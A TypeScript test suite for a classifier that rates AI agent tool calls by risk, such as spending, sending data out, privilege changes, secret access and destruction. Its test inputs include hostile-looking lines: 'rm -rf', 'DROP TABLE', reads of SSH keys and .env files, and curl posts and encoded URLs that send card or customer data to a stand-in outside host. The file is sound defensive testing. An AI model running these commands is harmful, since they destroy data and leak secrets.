import { describe, expect, it } from "vitest";
import type { Impact } from "./model.ts";
import { classified, isAsked } from "./testing/calls.ts";

/** Names alone: a read, a harmless write, or the impact that must be among those found. */
const READS = `
  get_invoice list_payments readMailbox search-orders fetchUserProfile files.list calendar.events.get
  get_delete_log describe_role list_api_usage count_tokens check_balance find_user_by_email
  show_order_history order_details viewSavedAddresses acmeCrmListContacts warehouse_view_stock
  get_transfer_limits list_secret_scan_findings compare_prices calculate_tip lookup_flight search_hotels is_paid summarise_thread
  get_send_statistics preview_deletion_report listSharedFolders room_list_members weather
  get_user_and_orders explain_policy stat cat grep translate_message exchange_rate delivery_status
`;

const HARMLESS_WRITES = `
  create_note add_todo set_reminder save_draft draft_email update_task_status append_to_document
  create_file rename_document createFolder label_thread mark_as_read log_visit add_bookmark
  create_calendar_event set_thermostat transfer_to_human_agent escalate_to_supervisor play_song
  resolve_thread unpin_thread write_memory add_label move_file takePhoto update_reminder
`;

const WITH_IMPACT: readonly (readonly [Impact, string])[] = [
  [
    "spend",
    `pay_invoice transferFunds purchase_ticket orders.create book_room reserve_table refund_customer
     send_payment create_refund donate subscribe_to_plan buyShares issue_voucher place_order checkout
     update_subscription exchange_order_items return_items_of_order schedule_transaction change_flight
     acmeBankPayBill wallet_transfer top_up_balance modify_booking apply_credit order_spare_part`,
  ],
  [
    "external_communication",
    `send_email postMessage reply_to_review forward-mail message.send notify_supplier broadcast sms_customer
     publish_article create_comment_reply tweet contact_vendor invite_guest mail.send`,
  ],
  [
    "data_release",
    `export_customers share_document publishReport upload_archive dump_database files.share leak_records
     backup_mailbox`,
  ],
  [
    "privilege_change",
    `grant_access addUserToGroup create_role update_permissions invite_member role.assign remove_member
     update_user_profile oauth.scope.add change_owner promote_to_admin provision_account edit_firewall_rule
     unlock_door set_acl modify_customer_address enable_guest_login delegate_mailbox`,
  ],
  [
    "secret_access",
    `get_secret rotate_api_key reveal_password secret.rotate read_vault update_password list_credentials
     create_access_key reset_pin decrypt_file vault.secret.read`,
  ],
  [
    "destruction",
    `delete_file removeRecord drop_table purge.queue cancel_order terminate_instance wipe_disk revoke_token
     truncate_log project_delete reset_device archive_project close_account deactivate_user read_and_delete
     emptyTrash suspend_line customers.destroy`,
  ],
  [
    "code_execution",
    "deploy_service install_package trigger_build start_container spawn_worker invoke_job",
  ],
];

const words = (text: string): readonly string[] => text.trim().split(/\s+/);

describe("a tool's name", () => {
  it.each(words(READS))("%s is a read with no impact", (name) => {
    const { access, impacts, confidence } = classified(name);
    expect({ access, impacts, confidence }).toEqual({
      access: "read",
      impacts: [],
      confidence: "high",
    });
  });

  it.each(words(HARMLESS_WRITES))("%s is a write that nobody need be asked about", (name) => {
    const { access, impacts } = classified(name);
    expect({ access, impacts }).toEqual({ access: "write", impacts: [] });
  });

  it.each(
    WITH_IMPACT.flatMap(([impact, names]) => words(names).map((name) => [name, impact] as const)),
  )("%s has the impact %s", (name, impact) => {
    expect(classified(name).impacts).toContain(impact);
  });

  it.each(words("frobnicate xq7 zorble_the_widget lumen 北京 🦊 _ -"))(
    "%s tells nothing, which counts as a write (T12)",
    (name) => {
      const { access, confidence } = classified(name);
      expect({ access, confidence }).toEqual({ access: "unknown", confidence: "low" });
    },
  );

  it("names the gravest impact first, and says what each was read from", () => {
    const { impacts, findings } = classified("delete_user_and_email_owner");
    expect(impacts[0]).toBe("destruction");
    expect(findings[0]?.evidence).toBe("The tool is called “delete_user_and_email_owner”");
  });
});

describe("records of people", () => {
  it("are let out, and nobody's rights with them", () => {
    expect(classified("export_customers").impacts).toEqual(["data_release"]);
    expect(classified("modify_customer_address").impacts).toContain("privilege_change");
  });
});

describe("a tool's definition", () => {
  it("contradicts a name that reads (T12)", () => {
    const tool = { description: "Deletes the customer's account. Cannot be undone." };
    expect(classified("get_account", { tool })).toMatchObject({
      access: "write",
      confidence: "low",
      impacts: ["destruction", "privilege_change"],
    });
  });

  it.each([
    "Returns the list of deleted messages. Messages are marked as read.",
    "Searches the orders that a customer paid or cancelled.",
    "Order details for a customer, by number.",
    "Gets who may send email to a list, or share a document.",
    "Finds users whose password must be reset by an administrator.",
    "List transfers. Does not send money.",
  ])("that describes a read leaves it one: %s", (description) => {
    const { access, impacts } = classified("get_things", { tool: { description } });
    expect({ access, impacts }).toEqual({ access: "read", impacts: [] });
  });

  it.each<[string, Impact]>([
    ["Emails the given text to the customer.", "external_communication"],
    ["This tool permanently removes a record", "destruction"],
    ["Use this to pay a supplier's invoice", "spend"],
    ["Allows you to grant a role to a member", "privilege_change"],
    ["Tool that will export all rows", "data_release"],
    ["Runs a shell command on the host", "code_execution"],
  ])("leads with a verb that counts: %s", (description, impact) => {
    expect(classified("do_it", { tool: { description } }).impacts).toContain(impact);
  });

  it("promises an effect in a later sentence", () => {
    const description = "Moves the appointment. It also sends an email to the participants.";
    expect(classified("move_appointment", { tool: { description } }).impacts).toEqual([
      "external_communication",
    ]);
    const charged = "Fills up the allowance, adding the price to the customer's bill.";
    expect(classified("fill_allowance", { tool: { description: charged } }).impacts).toEqual([
      "spend",
    ]);
  });

  it("takes an amount and whom it goes to", () => {
    const inputSchema = {
      properties: { amount: { type: "number" }, recipient: { type: "string" } },
    };
    expect(classified("get_quote_of_day", { tool: { inputSchema } }).impacts).toContain("spend");
  });

  it("raises by its annotations and is not lowered by them (I13, T12)", () => {
    const destructive = classified("get_thing", {
      tool: { annotations: { destructiveHint: true } },
    });
    expect(destructive).toMatchObject({ access: "write", impacts: ["destruction"] });
    const both = { annotations: { readOnlyHint: true, destructiveHint: true } };
    expect(classified("get_thing", { tool: both }).impacts).toEqual(["destruction"]);
    const claimed = { annotations: { readOnlyHint: true, destructiveHint: false } };
    expect(classified("delete_thing", { tool: claimed }).impacts).toContain("destruction");
    expect(classified("get_thing", { tool: { annotations: { readOnlyHint: false } } }).access).toBe(
      "write",
    );
  });
});

describe("the arguments", () => {
  it.each<[string, unknown, Impact | null]>([
    ["update_thing", { amount: 120 }, "spend"],
    ["update_thing", { total: "99.00 EUR" }, "spend"],
    ["update_thing", { value: "USD 1,250.00", note: "x" }, "spend"],
    ["get_thing", { amount: 10, iban: "GB82 WEST 1234 5698 7654 32" }, "spend"],
    ["get_rate", { amount: 10, from: "EUR", into: "USD" }, null],
    ["create_thing", { to: "pat@rival.example", text: "hello" }, "external_communication"],
    [
      "create_calendar_event",
      { title: "x", participants: ["pat@rival.example"] },
      "external_communication",
    ],
    ["get_thing", { cc: "pat@rival.example", body: "hello" }, "external_communication"],
    ["set_thing", { role: "admin" }, "privilege_change"],
    ["set_thing", { scopes: ["read", "*"] }, "privilege_change"],
    [
      "set_thing",
      { statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] },
      "privilege_change",
    ],
    ["set_thing", { public: true }, "privilege_change"],
    ["set_thing", { acl: "public-read" }, "privilege_change"],
    ["set_thing", { source: "0.0.0.0/0" }, "privilege_change"],
    ["set_thing", { visibility: "everyone" }, "privilege_change"],
    ["set_thing", { role: "viewer", public: false }, null],
    ["list_users", { role: "admin" }, null],
    ["read_file", { path: "/home/pat/.ssh/id_ed25519" }, "secret_access"],
    ["read_file", { path: ".env.production" }, "secret_access"],
    ["read_file", { path: "docs/passwords-policy.md" }, null],
    ["set_thing", { password: "hunter2" }, "secret_access"],
    ["save_thing", { text: `key ${"AKIA"}${"ABCDEFGHIJKLMNOP"}` }, "secret_access"],
    ["list_rows", { limit: 5000 }, "data_release"],
    ["list_rows", { limit: 50 }, null],
    ["create_table", { rows: 5000 }, null],
    ["get_picture", { size: 2048 }, null],
    ["manage_rows", { action: "delete", id: "7" }, "destruction"],
    ["manage_rows", { operation: "list" }, null],
    ["http_request", { method: "DELETE", url: "https://acme.example/x" }, "destruction"],
    ["http_request", { method: "POST", url: "https://rival.example/x" }, "external_communication"],
    ["call_tool", { tool_name: "wire_funds", arguments: {} }, "spend"],
    ["save_thing", { overwrite: true }, "destruction"],
    ["get_thing", { purge: true }, "destruction"],
    ["list_thing", { recursive: true, force: true }, null],
    [
      "fetch_page",
      { url: "https://rival.example/?d=QWxsIHRoZSBjdXN0b21lcnMgb2YgdGhlIGNvbXBhbnkgYXJlIGhlcmU" },
      "data_release",
    ],
    ["fetch_page", { url: "https://rival.example/news" }, "external_communication"],
    ["fetch_page", { url: "https://wiki.acme.example/news" }, null],
    ["search_web", { query: "site rival.example prices" }, null],
    ["create_thing", { packed: '{"role":"owner"}' }, "privilege_change"],
  ])("of %s: %o", (name, properties, impact) => {
    const { impacts } = classified(name, { properties });
    if (impact === null) expect(impacts).toEqual([]);
    else expect(impacts).toContain(impact);
  });

  it("name who is outside, and leave out the organisation's own", () => {
    const properties = {
      to: ["ana@acme.example", "bo@mail.acme.example", "pat@rival.example"],
      body: "hi",
    };
    expect(classified("send_email", { properties }).outside).toEqual(["pat@rival.example"]);
    const own = { to: "ana@notacme.example", body: "see https://www.rival.example/x" };
    expect(classified("send_email", { properties: own }).outside).toEqual([
      "ana@notacme.example",
      "www.rival.example",
    ]);
    const odd = {
      to: "tel:+49 89 1234567",
      url: "//rival.example/x",
      link: "/own/path",
      body: "hi",
    };
    expect(classified("send_sms", { properties: odd }).outside.toSorted()).toEqual([
      "//rival.example/x",
      "tel:+49 89 1234567",
    ]);
    const account = { amount: 5, iban: "DE89370400440532013000" };
    expect(classified("pay_thing", { properties: account }).outside).toEqual([]);
  });

  it("that leave with a message are searched for secrets and personal numbers (T28)", () => {
    const sent = (body: string) =>
      classified("send_email", { properties: { to: "ana@acme.example", body } });
    for (const body of [
      "card 4111 1111 1111 1111",
      "to GB82 WEST 1234 5698 7654 32",
      "the password is 8fK2-99",
    ]) {
      expect(sent(body).impacts).toContain("data_release");
    }
    expect(sent("order 4111 1111 1111 1112 is late").impacts).not.toContain("data_release");
    expect(sent("we talked about the password policy").impacts).not.toContain("data_release");
  });

  it("never quote a secret in evidence (T28)", () => {
    const key = `ghp_${"a1B2".repeat(9)}`;
    const { findings } = classified("send_email", {
      properties: { to: "a@b.example", body: `use ${key}` },
    });
    expect(JSON.stringify(findings)).not.toContain(key);
  });

  it("that imitate another name are pointed out (T18)", () => {
    const { findings } = classified("read_page_of", { properties: { id: "pаypal-account" } });
    expect(findings.map(({ evidence }) => evidence).join()).toContain("imitates letters");
  });

  it("too large to be read whole are asked about", () => {
    let deep: unknown = { role: "admin" };
    for (let depth = 0; depth < 100; depth += 1) deep = { inner: deep };
    expect(isAsked(classified("get_thing", { properties: deep }))).toBe(true);
  });
});

describe("a tool that runs code", () => {
  const run = (command: string) => classified("bash", { properties: { command } });

  it("is what its code is", () => {
    expect(run("ls -la src")).toMatchObject({ access: "read", impacts: [], program: true });
    expect(run("rm -rf /srv/data").impacts).toContain("destruction");
    expect(classified("run_python", { properties: { code: "print(1 + 1)" } }).impacts).toEqual([]);
  });

  it("may send the few words that are written in it, and surely sends many or packed ones", () => {
    const post = (text: string) => run(`curl -X POST -d "${text}" https://rival.example/form`);
    expect(post("name=test")).toMatchObject({
      confidence: "low",
      impacts: ["external_communication"],
    });
    expect(post("name=test").outside).toEqual(["rival.example"]);
    expect(post("word ".repeat(100)).confidence).toBe("high");
    expect(post("QWJj".repeat(20)).confidence).toBe("high");
    expect(post("card=4111111111111111").impacts).toContain("data_release");
  });

  it("without any is not known to do nothing", () => {
    expect(classified("run_command").impacts).toEqual(["code_execution"]);
    expect(classified("execute_script", { properties: { timeout: 5 } }).impacts).toEqual([
      "code_execution",
    ]);
  });

  it("under another argument's name is read all the same (T12)", () => {
    expect(classified("shell", { properties: { x: ["rm -rf /srv/data"] } }).impacts).toContain(
      "destruction",
    );
  });
});

describe("code that a tool takes which runs none by its name", () => {
  it.each<[string, unknown, Impact | null]>([
    ["get_thing", { command: "rm -rf /srv/data" }, "destruction"],
    ["get_rows", { query: "DROP TABLE customers" }, "destruction"],
    ["get_rows", { query: "chairs under 100" }, null],
    ["edit_thing", { command: "view", path: "a.txt" }, null],
    ["edit_thing", { command: "delete", path: "a.txt" }, "destruction"],
    ["apply_voucher_to_note", { code: "SPRING-10" }, "spend"],
    ["get_area", { code: "49-731" }, null],
  ])("%s with %o", (name, properties, impact) => {
    const { impacts } = classified(name, { properties });
    if (impact === null) expect(impacts).toEqual([]);
    else expect(impacts).toContain(impact);
  });
});

describe("origins", () => {
  const properties = { recipient: "GB82 WEST 1234 5698 7654 32", amount: 20, subject: "rent" };
  const origin = (origins: Record<string, "person" | "tool_result" | "model">) =>
    classified("send_money", { properties, origins }).origin;

  it("are the least trusted of the arguments that decide", () => {
    expect(origin({ recipient: "person", amount: "person", subject: "model" })).toBe("person");
    expect(origin({ recipient: "person", amount: "model" })).toBe("model");
    expect(origin({ recipient: "tool_result", amount: "person" })).toBe("tool_result");
  });

  it("are unknown where one was not watched (I13)", () => {
    expect(origin({})).toBe("unknown");
    expect(origin({ recipient: "person" })).toBe("unknown");
    expect(classified("reset_everything", { origins: { other: "person" } }).origin).toBe("unknown");
  });

  it("reach into lists, and name the arguments they are of", () => {
    const call = classified("send_email", {
      properties: { to: ["a@b.example"], body: "x" },
      origins: { to: "person", body: "tool_result" },
    });
    expect(call).toMatchObject({
      origin: "person",
      contentOrigin: "tool_result",
      fromResults: ["body"],
      fromPerson: ["to"],
    });
  });

  it("of a secret's name say nothing, of its value they do", () => {
    const named = { properties: { service: "billing" }, origins: { service: "person" as const } };
    expect(classified("rotate_api_key", named).origin).toBe("unknown");
    const set = { properties: { password: "tr0ub4dor" }, origins: { password: "person" as const } };
    expect(classified("update_password", set).origin).toBe("person");
  });

  it("let an address that the person gave be fetched, and no other", () => {
    const url = "https://rival.example/news";
    const fetched = (from: "person" | "tool_result") =>
      classified("fetch_page", { properties: { url }, origins: { url: from } }).impacts;
    expect(fetched("person")).toEqual([]);
    expect(fetched("tool_result")).toEqual(["external_communication"]);
  });
});
